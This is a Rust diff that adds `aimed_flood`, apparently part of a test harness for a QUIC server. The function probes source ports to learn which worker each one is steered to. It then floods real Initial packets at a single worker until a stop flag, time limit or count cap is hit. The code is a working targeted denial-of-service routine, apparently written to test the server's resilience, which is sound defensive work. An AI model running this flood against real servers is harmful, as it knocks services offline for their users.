@@ -178,3 +178,84 @@ impl Holders {
         self.held
     }
 }
+
+/// What [`aimed_flood`] did.
+#[derive(Debug, Default, Clone, Copy)]
+pub struct Aimed {
+    /// Source ports whose probe the server answered.
+    pub probed: usize,
+    /// Of those, the ones steered to worker 0, which the flood came from.
+    pub aimed: usize,
+    /// Initials the flood sent.
+    pub sent: u64,
+}
+
+/// An attacker that learns the steering and aims at one worker: from `probes` source ports
+/// on `from` it sends one real Initial each and reads the worker from the reply's connection
+/// ID (the worker byte follows the first octet when the server has no `--server-id`), then
+/// sends real Initials from the ports steered to worker 0 of `workers`, as fast as they go,
+/// until `stop` is set, `limit` has passed or `max` are sent.
+pub fn aimed_flood(
+    server: SocketAddr,
+    from: IpAddr,
+    workers: usize,
+    probes: usize,
+    stop: &AtomicBool,
+    limit: Duration,
+    max: u64,
+) -> io::Result<Aimed> {
+    let started = Instant::now();
+    let crypto = tls::client_crypto(&Trust::Insecure, ALPN_HQ).map_err(io::Error::other)?;
+    let mut endpoint = quinn_proto::Endpoint::new(
+        Arc::new(quinn_proto::EndpointConfig::default()),
+        None,
+        true,
+        None,
+    );
+    let mut initial = || {
+        let now = Instant::now();
+        let config = quinn_proto::ClientConfig::new(crypto.clone());
+        let (_, mut conn) = endpoint
+            .connect(now, config, server, "localhost")
+            .expect("a client connection");
+        let mut buf = Vec::new();
+        let t = conn.poll_transmit(now, 1, &mut buf).expect("an Initial");
+        buf.truncate(t.size);
+        buf
+    };
+    let mut aimed = Aimed::default();
+    let mut sockets = Vec::new();
+    let mut reply = [0u8; 2048];
+    for _ in 0..probes {
+        let socket = UdpSocket::bind((from, 0))?;
+        socket.set_read_timeout(Some(Duration::from_secs(1)))?;
+        socket.send_to(&initial(), server)?;
+        let Ok((n, _)) = socket.recv_from(&mut reply) else {
+            continue;
+        };
+        // Long header: first byte, version, DCID length and DCID, SCID length and SCID.
+        let d = &reply[..n];
+        let scid_at = 6 + usize::from(d[5]);
+        if let Some(&byte) = d.get(scid_at + 2) {
+            aimed.probed += 1;
+            if usize::from(byte) % workers == 0 {
+                sockets.push(socket);
+            }
+        }
+    }
+    aimed.aimed = sockets.len();
+    if sockets.is_empty() {
+        return Ok(aimed);
+    }
+    let flood: Vec<Vec<u8>> = (0..1000).map(|_| initial()).collect();
+    for s in &sockets {
+        s.set_nonblocking(true)?;
+    }
+    while aimed.sent < max && !stop.load(Ordering::Relaxed) && started.elapsed() < limit {
+        let i = usize::try_from(aimed.sent).unwrap_or(0);
+        // A full buffer loses the datagram, as on a wire.
+        let _ = sockets[i % sockets.len()].send_to(&flood[i % flood.len()], server);
+        aimed.sent += 1;
+    }
+    Ok(aimed)
+}
